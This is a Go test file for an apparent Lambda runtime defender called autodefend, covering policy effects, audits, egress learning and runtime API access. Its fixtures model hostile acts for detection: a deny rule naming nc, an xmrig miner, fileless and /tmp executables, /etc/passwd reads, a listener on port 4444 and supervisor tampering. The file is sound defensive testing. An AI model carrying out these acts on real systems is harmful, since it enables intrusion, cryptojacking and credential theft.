package defend

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/json"
	"flag"
	"fmt"
	"log/slog"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/autodefend/autodefend"
	"github.com/autodefend/autodefend/internal/policy"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// start is when the tests' clock begins.
var start = time.Date(2026, 11, 22, 5, 0, 0, 0, time.UTC)

var (
	testKey    = ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, ed25519.SeedSize))
	foreignKey = ed25519.NewKeyFromSeed(bytes.Repeat([]byte{8}, ed25519.SeedSize))
)

// world is a Defender with a clock, a log and a Console that tests hold in their hands.
type world struct {
	t        *testing.T
	defender *Defender
	mu       sync.Mutex
	now      time.Time
	log      bytes.Buffer // lines
	errors   bytes.Buffer // what went wrong
	ids      int
	ended    int
	changed  []policy.Sections
}

func (w *world) Write(line []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.log.Write(line)
}

func (w *world) pass(d time.Duration) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.now = w.now.Add(d)
}

// audits takes the audits that were written since the last call.
func (w *world) audits() []autodefend.Audit {
	w.mu.Lock()
	defer w.mu.Unlock()
	var all []autodefend.Audit
	for line := range strings.Lines(w.log.String()) {
		var a autodefend.Audit
		if err := json.Unmarshal([]byte(line), &a); err != nil {
			w.t.Errorf("not a line of JSON: %q", line)
		}
		if a.Type != "" {
			all = append(all, a)
		}
	}
	w.log.Reset()
	return all
}

func (w *world) config(value string) Config {
	return Config{
		Policy: value,
		Function: Function{
			Name: "orders", Version: "$LATEST", Region: "eu-west-1", Runtime: "python3.12",
			Environ: []string{"PATH=/usr/bin:/bin", "API_TOKEN=tok-5up3r", "SHORT=abc", "WHERE=/var/task/lib", "AWS_REGION=eu-west-1"},
		},
		Runtime: Runtime{Path: "/var/lang/bin/python3.12", Args: []string{"/var/lang/bin/python3.12", "/var/runtime/bootstrap.py"}},
		Version: "v1.2.3",
		Log:     slog.New(slog.NewTextHandler(&w.errors, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Lines:   w,
		Now: func() time.Time {
			w.mu.Lock()
			defer w.mu.Unlock()
			return w.now
		},
		NewID: func() string {
			w.mu.Lock()
			defer w.mu.Unlock()
			w.ids++
			return fmt.Sprintf("%032x", w.ids)
		},
		API:      netip.MustParseAddrPort("127.0.0.1:40001"),
		Upstream: netip.MustParseAddrPort("127.0.0.1:9001"),
		Changed:  func(s policy.Sections) { w.changed = append(w.changed, s) },
		End:      func() { w.ended++ },
	}
}

// protect makes a world in which rule holds.
func protect(t *testing.T, rule policy.Rule, change ...func(*policy.Envelope)) *world {
	t.Helper()
	w := &world{t: t, now: start}
	d, err := New(w.config(seal(t, testKey, rule, change...)))
	if err != nil {
		t.Fatal(err)
	}
	w.defender = d
	return w
}

func seal(t *testing.T, key ed25519.PrivateKey, rule policy.Rule, change ...func(*policy.Envelope)) string {
	t.Helper()
	e := policy.Envelope{
		Rule:   &rule,
		Target: policy.Target{Function: "orders", Region: "eu-west-1", AccountID: "123456789012"},
		Issued: start,
	}
	for _, c := range change {
		c(&e)
	}
	value, err := policy.Encode(e, key, 0)
	if err != nil {
		t.Fatal(err)
	}
	return value
}

// strict is a rule that has something against everything.
func strict(effect autodefend.Effect) policy.Rule {
	return policy.Rule{
		Name: "strict",
		Processes: policy.Processes{
			Effect: effect, MainOnly: true, Miners: true, Deny: []string{"nc"},
		},
		Network: policy.Network{
			Effect:  effect,
			DenyIPs: []string{"203.0.113.0/24"}, DenyPorts: []policy.PortRange{{Start: 22, End: 22}}, DenyListen: []policy.PortRange{{Start: 4444, End: 4445}},
		},
		DNS:        policy.DNS{Effect: effect, Deny: []string{"yahoo.com", "*.evil.test"}},
		Filesystem: policy.Filesystem{Effect: effect, Deny: []string{"/etc/passwd"}},
		Own:        policy.Extension{Fileless: effect, TmpExecutables: effect},
	}
}

func shell(args ...string) policy.Event {
	return policy.Event{
		Kind: policy.Exec, Tier: autodefend.TierKernel,
		Process: policy.Process{PID: 40, Path: "/var/lang/bin/python3.12", Parent: "/opt/autodefend/wrapper", Command: "/var/lang/bin/python3.12 /var/runtime/bootstrap.py"},
		Program: policy.Program{Path: "/usr/bin/dash", Given: "/bin/sh", Args: append([]string{"sh"}, args...)},
	}
}

// events are one of each kind of audit, by name.
func events() map[string]policy.Event {
	wget := policy.Process{PID: 41, Path: "/usr/bin/wget", Parent: "/var/lang/bin/python3.12", Command: "wget http://yahoo.com"}
	python := policy.Process{PID: 40, Path: "/var/lang/bin/python3.12", Parent: "/opt/autodefend/wrapper", Command: "/var/lang/bin/python3.12 /var/runtime/bootstrap.py"}
	exec := func(p policy.Program) policy.Event {
		return policy.Event{Kind: policy.Exec, Tier: autodefend.TierPreload, Process: python, Program: p}
	}
	connect := func(address string) policy.Event {
		return policy.Event{Kind: policy.Connect, Tier: autodefend.TierPreload, Process: wget, Protocol: "tcp", Address: netip.MustParseAddrPort(address)}
	}
	return map[string]policy.Event{
		"process":      shell("-c", "curl -H 'X: tok-5up3r' http://example.com"),
		"miner":        exec(policy.Program{Path: "/usr/bin/xmrig", Args: []string{"xmrig", "-o", "stratum+tcp://pool.example:3333"}}),
		"fileless":     exec(policy.Program{Path: "memfd:x", Args: []string{"x"}, Fileless: true}),
		"tmp":          exec(policy.Program{Path: "/tmp/tool", Args: []string{"/tmp/tool"}, Writable: true}),
		"opaque":       exec(policy.Program{Path: "/var/task/static", Args: []string{"/var/task/static"}, Opaque: true}),
		"process-seen": {Kind: policy.Exec, Tier: autodefend.TierWatch, After: true, Process: wget, Program: policy.Program{Path: "/usr/bin/wget", Args: []string{"wget", "http://yahoo.com"}}},
		"ip":           connect("203.0.113.9:443"),
		"ipv6-mapped":  connect("[::ffff:203.0.113.9]:443"),
		"port":         connect("198.51.100.7:22"),
		"listen":       {Kind: policy.Listen, Tier: autodefend.TierPreload, Process: python, Protocol: "tcp", Address: netip.MustParseAddrPort("0.0.0.0:4444")},
		"dns":          {Kind: policy.Resolve, Tier: autodefend.TierPreload, Process: wget, Domain: "yahoo.com"},
		"file":         {Kind: policy.Open, Tier: autodefend.TierKernel, Process: wget, File: "/etc/passwd", Access: policy.Read},
		"tamper":       {Kind: policy.Tamper, Tier: autodefend.TierPreload, Process: wget, Detail: "signal 9 to the supervisor"},
		"lambda":       connect("127.0.0.1:40001"),
	}
}

// TestAudits compares the complete JSON of every kind of audit, and its summary in a table that people can check, with
// the golden files.
func TestAudits(t *testing.T) {
	for name, event := range events() {
		t.Run(name, func(t *testing.T) {
			w := protect(t, strict(autodefend.Prevent))
			w.defender.Starting(false)
			w.defender.Started(40)
			w.defender.Next(t.Context())
			w.defender.Invoked("8f507cfc-request", "arn:aws:lambda:eu-west-1:123456789012:function:orders")
			decision := w.defender.Judge(event)
			if !decision.Deny {
				t.Fatalf("%+v was allowed: %+v", event, decision)
			}
			golden(t, name+".json", w.log.Bytes())
		})
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	var indented bytes.Buffer
	if err := json.Indent(&indented, got, "", "  "); err != nil {
		t.Fatalf("%v: %s", err, got)
	}
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, indented.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), indented.String()); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

// TestEffects: the same act under each effect.
func TestEffects(t *testing.T) {
	tests := []struct {
		effect   autodefend.Effect
		deny     bool
		audits   int
		ended    int
		coverage autodefend.Coverage
	}{
		{autodefend.Disable, false, 0, 0, ""},
		{autodefend.Alert, false, 1, 0, autodefend.Seen},
		{autodefend.Prevent, true, 1, 0, autodefend.Enforced},
		{autodefend.Block, true, 1, 1, autodefend.Enforced},
	}
	for _, tt := range tests {
		t.Run(string(tt.effect), func(t *testing.T) {
			w := protect(t, strict(tt.effect))
			w.defender.Starting(false)
			w.defender.Started(40)
			decision := w.defender.Judge(shell())
			audits := w.audits()
			if decision.Deny != tt.deny || len(audits) != tt.audits || w.ended != tt.ended {
				t.Fatalf("decision %+v, %d audits, ended %d times", decision, len(audits), w.ended)
			}
			if tt.audits > 0 && (audits[0].Effect != tt.effect || audits[0].Coverage != tt.coverage) {
				t.Errorf("audit %+v", audits[0])
			}
		})
	}
}

// TestFactsBeforeTheFirstInvocation: without an ARN from Lambda the policy's target makes one, and no request is named.
func TestFactsBeforeTheFirstInvocation(t *testing.T) {
	w := protect(t, strict(autodefend.Prevent))
	w.defender.Starting(false)
	w.defender.Started(40)
	w.defender.Judge(shell())
	got := w.audits()[0]
	if got.FunctionID != "arn:aws:lambda:eu-west-1:123456789012:function:orders" || got.RequestID != "" || got.AccountID != "123456789012" {
		t.Errorf("got %+v", got)
	}
}

// TestConcurrentInvocations: a request is only named when there is no doubt.
func TestConcurrentInvocations(t *testing.T) {
	w := protect(t, strict(autodefend.Prevent))
	w.defender.Starting(false)
	w.defender.Started(40)
	request := func() string {
		w.pass(time.Hour)
		w.defender.Judge(shell())
		return w.audits()[0].RequestID
	}
	w.defender.Invoked("a", "")
	if got := request(); got != "a" {
		t.Errorf("one: %q", got)
	}
	w.defender.Invoked("b", "")
	if got := request(); got != "" {
		t.Errorf("two at once: %q", got)
	}
	w.defender.Responded(context.Background(), "a")
	if got := request(); got != "b" {
		t.Errorf("one left: %q", got)
	}
	w.defender.Restored()
	if got := request(); got != "" {
		t.Errorf("after a restore: %q", got)
	}
}

// TestStrictEgress: an address is allowed because an answer brought it, and only then.
func TestStrictEgress(t *testing.T) {
	rule := strict(autodefend.Prevent)
	rule.Network = policy.Network{Effect: autodefend.Prevent}
	rule.Own.StrictEgress = true
	w := protect(t, rule)
	w.defender.Starting(false)
	w.defender.Started(40)
	connect := policy.Event{Kind: policy.Connect, Tier: autodefend.TierKernel, Protocol: "tcp", Address: netip.MustParseAddrPort("198.51.100.7:443")}
	if !w.defender.Judge(connect).Deny {
		t.Error("an unknown address is allowed")
	}
	w.defender.Learn([]netip.Addr{netip.MustParseAddr("::ffff:198.51.100.7")}, time.Second)
	if w.defender.Judge(connect).Deny {
		t.Error("a learnt address is denied")
	}
	w.defender.Restored()
	if !w.defender.Judge(connect).Deny {
		t.Error("an address of before the snapshot is allowed")
	}
}

// TestRuntimeAPI: the runtime may speak to the proxy, its forks too, nobody else, and nobody to Lambda itself.
func TestRuntimeAPI(t *testing.T) {
	w := protect(t, strict(autodefend.Prevent))
	w.defender.Starting(false)
	w.defender.Started(40)
	connect := func(pid int, command, address string) policy.Decision {
		return w.defender.Judge(policy.Event{
			Kind: policy.Connect, Protocol: "tcp", Process: policy.Process{PID: pid, Path: "/var/lang/bin/python3.12", Command: command},
			Address: netip.MustParseAddrPort(address),
		})
	}
	tests := []struct {
		pid              int
		command, address string
		deny             bool
	}{
		{49, "/var/lang/bin/python3.12 /var/runtime/bootstrap.py", "127.0.0.1:40001", false},
		{40, "python bootstrap.py", "127.0.0.1:40001", false},
		{50, "python bootstrap.py", "127.0.0.1:40001", false},
		{51, "python -c evil", "127.0.0.1:40001", true},
		{51, "python -c evil", "[::ffff:127.0.0.1]:40001", true},
		{51, "python -c evil", "127.8.9.1:40001", true},
		{51, "python -c evil", "0.0.0.0:40001", true},
		{40, "python bootstrap.py", "127.0.0.1:9001", true},
		{40, "python bootstrap.py", "127.0.0.1:40002", false},
	}
	for _, tt := range tests {
		if got := connect(tt.pid, tt.command, tt.address); got.Deny != tt.deny {
			t.Errorf("%d %q to %s: %+v", tt.pid, tt.command, tt.address, got)
		}
	}
}

// TestRepeats: one lookup is one audit, though it is two questions; and what was prevented isn't found again.
func TestRepeats(t *testing.T) {
	w := protect(t, strict(autodefend.Alert))
	w.defender.Starting(false)
	w.defender.Started(40)
	all := events()
	for range 2 {
		w.defender.Judge(all["dns"])
	}
	unknown := all["dns"]
	unknown.Process = policy.Process{}
	w.defender.Judge(unknown)
	found := all["process"]
	w.defender.Judge(found)
	found.After, found.Tier = true, autodefend.TierWatch
	w.defender.Judge(found)
	if got := w.audits(); len(got) != 2 {
		t.Errorf("%d audits, want 2: %+v", len(got), got)
	}
	w.pass(3 * time.Second)
	w.defender.Judge(all["dns"])
	w.defender.Judge(all["file"])
	w.defender.Judge(all["file"])
	if got := w.audits(); len(got) != 3 {
		t.Errorf("%d audits, want 3: %+v", len(got), got)
	}
}

// TestLinesAreNeverLostSilently: when the log takes lines again, it hears how many it missed.
func TestLinesAreNeverLostSilently(t *testing.T) {
	w := protect(t, strict(autodefend.Prevent))
	w.defender.Starting(false)
	w.defender.Started(40)
	w.defender.lines.out = brokenWriter{}
	w.defender.Judge(shell("1"))
	w.defender.Judge(shell("2"))
	w.defender.lines.out = w
	w.defender.Judge(shell("3"))
	if !strings.Contains(w.errors.String(), "lines=2") {
		t.Errorf("the log: %s", w.errors.String())
	}
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, os.ErrClosed }

// TestConcurrentJudges runs everything at once for the race detector.
func TestConcurrentJudges(t *testing.T) {
	w := protect(t, strict(autodefend.Alert))
	var running sync.WaitGroup
	for i := range 8 {
		running.Go(func() {
			for _, e := range events() {
				w.defender.Judge(e)
			}
			w.defender.Learn([]netip.Addr{netip.MustParseAddr("198.51.100.7")}, time.Second)
			w.defender.Next(t.Context())
			w.defender.Invoked(fmt.Sprint(i), testARN)
			w.defender.Responded(t.Context(), fmt.Sprint(i))
		})
	}
	running.Wait()
	w.defender.Shutdown(t.Context())
}

const testARN = "arn:aws:lambda:eu-west-1:123456789012:function:orders"
